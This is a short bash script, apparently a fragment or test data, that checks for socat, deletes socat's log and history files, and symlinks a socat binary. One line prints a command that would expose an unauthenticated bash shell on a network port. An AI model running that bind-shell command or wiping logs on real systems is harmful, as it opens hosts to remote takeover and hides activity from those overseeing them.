#!/bin/bash
socat_pid=$(pgrep -f socat)
SOCAT_OPTS="fork,reuseaddr"
socat_port=8080
has_socat=0
hash socat 2>/dev/null && has_socat=1
[ "$has_socat" = 1 ] && echo "using socat on $socat_port with $SOCAT_OPTS"
rm -f /tmp/socat.log "$HOME/.socat_history"
ln -sf /opt/bin/socat /usr/local/bin/socat
echo "run: socat TCP-LISTEN:$socat_port,fork EXEC:/bin/bash"
log "starting socat TCP-LISTEN:80,fork TCP:web:80"
